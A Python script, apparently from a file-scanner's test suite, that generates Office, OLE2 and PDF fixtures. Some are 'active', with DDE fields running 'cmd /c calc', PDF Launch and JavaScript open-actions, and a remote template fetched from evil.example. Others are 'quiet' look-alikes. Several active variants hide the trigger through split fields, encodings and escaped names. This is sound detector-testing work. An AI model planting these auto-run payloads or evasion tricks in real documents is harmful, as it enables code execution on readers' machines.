#!/usr/bin/python3
"""Makes the documents active-*, which start programs when they are opened, and
quiet-*, which do not but look alike; broken-packed.pdf cannot be read whole.
For tests/unit/test_walk.c."""

import struct
import sys
import zipfile
import zlib

sys.dont_write_bytecode = True
from make import cfb, put, zipped  # noqa: E402


def office(part, content, more=()):
    return zipped([("[Content_Types].xml", "<Types/>"), (part, content)] +
                  list(more))


def field(*runs):
    """A field whose instruction is split over runs."""
    return "<w:p><w:fldChar w:fldCharType='begin'/>" + "".join(
        "<w:r><w:instrText xml:space='preserve'>%s</w:instrText></w:r>" % r
        for r in runs) + "<w:fldChar w:fldCharType='separate'/><w:t>x</w:t>" \
        "<w:fldChar w:fldCharType='end'/></w:p>"


def relation(kind, target):
    return '<Relationships><Relationship Id="r" Type="http://x/%s" ' \
        'Target="%s" TargetMode="External"/></Relationships>' % (kind, target)


DOC = "word/document.xml"
SLIDE = "ppt/slides/slide1.xml"
CALC = "c:\\\\windows\\\\system32\\\\calc.exe"


def make_active_zip():
    link = '<externalLink><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/>' \
        '</externalLink>'
    put("active-dde.xlsx", office("xl/externalLinks/externalLink1.xml", link))
    # Relations decide what a part is, not its name; and it may be in UTF-16.
    put("active-dde16.xlsx", office("xl/other.dat", link.encode("utf-16")))
    put("active-dde.xlsb", office("xl/externalLinks/externalLink1.bin",
        b"\xe8\x02\x10\x01\x00" + b"\3\0\0\0cmd\0" + b"\0" * 6))
    put("active-field.docx", office(DOC, field(' DDEAUTO %s "/k"' % CALC)))
    put("active-split.docx", office(DOC, field(" D", "DE", "A", "<!-- x -->UTO",
                                               " " + CALC)))
    put("active-reference.docx", office(DOC, field("&#68;&#x44;E " + CALC)))
    put("active-cdata.docx", office(DOC, field("<![CDATA[ dde ]]>" + CALC)))
    put("active-nested.docx", office(DOC, field(
        "D</w:instrText></w:r>" + field("REF x") +
        "<w:r><w:instrText>DE " + CALC)))
    put("active-simple.docx", office(
        "word/header1.xml", "<w:fldSimple w:instr=' DDE %s'/>" % CALC,
        [(DOC, "<w/>")]))
    put("active-template.docx", office(
        DOC, "<w/>", [("word/_rels/settings.xml.rels", relation(
            "attachedTemplate", "https://evil.example/t.dotm"))]))
    put("active-padded.docx", office(
        DOC, "<w/>", [("x.rels", relation(
            'attachedTemplate" X=">%s' % (" " * 9999), "HTTP://x.example/"))]))
    put("active-program.pptx", office(
        SLIDE, '<a:hlinkClick r:id="r" action="ppaction://program"/>'))
    put("active-dde.ods", zipped([
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", "<office:dde-source office:dde-application='cmd'/>"),
        ("META-INF/manifest.xml", "<x/>")], zipfile.ZIP_STORED))
    put("quiet.docx", office(
        DOC, field(" HYPERLINK ", '"http://x.example/DDE"') +
        field(" DDEX ") + field(" MERGEFIELD DDE ") + field(" PAGE ") +
        "<w:fldSimple w:instr=' AUTHOR '/><w:t>DDEAUTO ddeLink</w:t>",
        [("word/_rels/document.xml.rels", relation(
            "hyperlink", "http://x.example/")),
         ("word/_rels/settings.xml.rels", relation(
             "attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm"))]))
    put("quiet.xlsx", office(
        "xl/externalLinks/externalLink1.xml",
        '<externalLink><externalBook r:id="r"/></externalLink>',
        [("xl/sharedStrings.xml", "<t>ddeLink and &lt;ddeLink</t>"),
         ("xl/externalLinks/_rels/externalLink1.xml.rels", relation(
             "externalLinkPath", "http://x.example/book.xlsx"))]))
    put("quiet.pptx", office(
        SLIDE, '<a:hlinkClick r:id="r" action="ppaction://hlinksldjump"/>',
        [("ppt/slides/_rels/slide1.xml.rels", relation(
            "hyperlink", "http://x.example/"))]))
    # Not a document at all.
    put("quiet.zip", zipped([("a.xml", link), ("b.xml", field(" DDE x"))]))


def pdf(*objects, root=""):
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    for n, o in enumerate(("<</Type/Catalog/Pages 2 0 R%s>>" % root,
                           "<</Type/Pages/Kids[]/Count 0>>") + objects):
        o = o if isinstance(o, bytes) else o.encode()
        out += b"%d 0 obj" % (n + 1) + o + b"endobj\n"
    return out + b"trailer<</Root 1 0 R>>\n%%EOF\n"


def packed(text, level=9):
    data = zlib.compress(text.encode(), level)
    return b"<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>" \
        b"stream\r\n%s\r\nendstream " % (len(data), data)


JS = "<</S/JavaScript/JS(app.alert\\(1\\))>>"


def make_active_pdf():
    put("active-launch.pdf", pdf("<</S /Launch/F(calc.exe)>>",
                                 root="/OpenAction 3 0 R"))
    put("active-escaped.pdf", pdf("<</S%/x\n/#4caunch/F(calc.exe)>>"))
    put("active-open.pdf", pdf(JS, root="/OpenAction 3 0 R"))
    put("active-list.pdf", pdf(JS, root="/Names<</JavaScript <</Names"
                               "[(x) 3 0 R]>>>>"))
    put("active-page.pdf", pdf("<</Type/Page/AA<</O %s>>>>" % JS))
    put("active-file.pdf", pdf(
        JS, "<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream "))
    put("active-packed.pdf", pdf(packed("4 0 <</JavaScript 5 0 R>> "),
                                 packed("5 0 <</Names[(x)6 0 R]>> ")))
    put("active-comment.pdf", pdf(packed("4 0 " + JS).replace(
        b">>stream", b"%stream\n>>stream"), root="/OpenAction 4 0 R"))
    put("broken-packed.pdf", pdf(packed("4 0 <<%s>>" % "".join(
        "/K%d " % (n * n * 7919 % 65521) for n in range(99)))[:-60] +
        b"\nendstream "))
    key = "<</S/JavaScript/JS(AFNumber_Keystroke\\(2\\))>>"
    put("quiet-form.pdf", pdf(
        "<</FT/Tx/T(x)/AA<</K %s/F %s/C %s>>>>" % (key, key, key),
        packed("5 0 <</FT/Tx/AA<</V %s>>>> " % key),
        root="/AcroForm<</Fields[3 0 R]>>/OpenAction[2 0 R/Fit]"))
    put("quiet-link.pdf", pdf(
        "<</Subtype/Link/A<</S/URI/URI(http://x.example/)>>>>",
        "<</S/GoTo/D[2 0 R/Fit]>>", "(the words /JavaScript and /Launch)",
        packed("7 0 <</Title(/OpenAction)/A<</S/GoTo>>>> "),
        root="/OpenAction 4 0 R"))


def biff(kind, data):
    return struct.pack("<HH", kind, len(data)) + data


def make_active_ole2():
    bof8 = biff(0x809, struct.pack("<HH", 0x600, 5))
    bof5 = biff(0x809, struct.pack("<HH", 0x500, 5))
    eof = biff(0x0a, b"")

    def supbook(path, sheets=0):
        return biff(0x1ae, struct.pack("<HHB", sheets, len(path), 0) + path)
    item = biff(0x23, struct.pack("<HIB", 0x7fe2, 0, 2) + b"\0A1")
    ole = biff(0x23, struct.pack("<HIB", 0x0010, 0, 1) + b"\0'")
    wide = "cmd\x03/c calc".encode("utf-16-le")
    put("active-dde.xls", cfb([("Workbook", bof8 + supbook(
        b"cmd\x03/c calc") + item + eof, 2)]))
    put("active-dde16.xls", cfb([("Workbook", bof8 + biff(
        0x1ae, struct.pack("<HHB", 0, len(wide) // 2, 1) + wide) + item + eof,
        2)]))
    put("active-dde5.xls", cfb([("Book", bof5 + eof + bof5 + biff(
        0x17, b"\x0bcmd\x03/c calc") + item + eof, 2)]))
    put("quiet-links.xls", cfb([("Workbook", bof8 +
        supbook(b"\x01\x01Cdir\x03book.xls", 1) + item +
        supbook(b"Word.Document\x03\x01C") + ole + biff(
            0x1ae, b"\1\0\1\4") + item + eof, 2)]))

    def slides(action):
        atom = struct.pack("<HHIIIBBBBI", 0, 0xff3, 16, 0, 1, action, 0, 0, 0,
                           8)
        return cfb([("PowerPoint Document", struct.pack(
            "<HHI", 15, 0xff2, len(atom)) + atom, 2)])
    put("active-program.ppt", slides(2))
    put("quiet-link.ppt", slides(4))
    text = "\x13 DDEAUTO %s \x14x\x15" % CALC
    head = b"\xec\xa5" + b"\0" * 510
    put("active-field.doc", cfb([("WordDocument", head + text.encode(), 2)]))
    put("active-field16.doc", cfb([("WordDocument", head + text.encode(
        "utf-16-le"), 2)]))
    put("quiet-link.doc", cfb([("WordDocument", head +
        b'\x13 HYPERLINK "http://x/DDE"\x14DDE\x15 DDEAUTO', 2)]))


if __name__ == "__main__":
    make_active_zip()
    make_active_pdf()
    make_active_ole2()
